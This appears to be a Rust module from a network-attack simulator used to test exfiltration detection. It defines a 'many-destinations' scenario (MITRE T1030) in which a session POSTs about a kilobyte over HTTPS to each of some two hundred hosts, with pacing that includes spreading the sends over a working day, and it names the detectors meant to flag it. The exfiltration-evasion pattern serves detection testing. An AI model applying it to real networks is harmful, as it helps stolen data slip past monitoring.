//! A kilobyte to each of two hundred places: none gets much (T1030).

use super::deed::registrable;
use super::{Attack, Channel, Kind, Mission, Pace, Role};
use crate::simulate::programs::CURL;
use crate::simulate::session::{Call, Route, Session, Visit};

const ROLES: [Role; 2] =
    [Role { route: Route::Direct, v6: false, act }, Role { route: Route::Squid, v6: false, act }];

pub(super) static KIND: Kind = Kind {
    name: "many-destinations",
    about: "a kilobyte goes to each of two hundred domains",
    technique: "T1030",
    channel: Channel::Https,
    found_by: &["fan_out", "rate_burst"],
    paces: [
        // One after the other.
        Pace { contacts: 200..201, bytes: 1_000..1_025, apart_ms: 100..101 },
        Pace { contacts: 190..211, bytes: 200..1_900, apart_ms: 50..6_000 },
        // Over a working day.
        Pace { contacts: 200..201, bytes: 1_000..1_025, apart_ms: 90_000..200_000 },
    ],
    roles: &ROLES,
    sessions: 1,
};

fn act(session: &mut Session, mission: &Mission) -> Attack {
    let mut attack = Attack::towards("*", session);
    let mut number = 0;
    mission.each(session, |session, bytes| {
        let host = mission.numbered_host(number);
        number += 1;
        let post = [Call::post("/", bytes, 2)];
        attack.add(session.visit(&Visit::https(&host, &CURL, &post)), bytes);
        attack.seen_as.push(registrable(&host.name));
    });
    attack
}
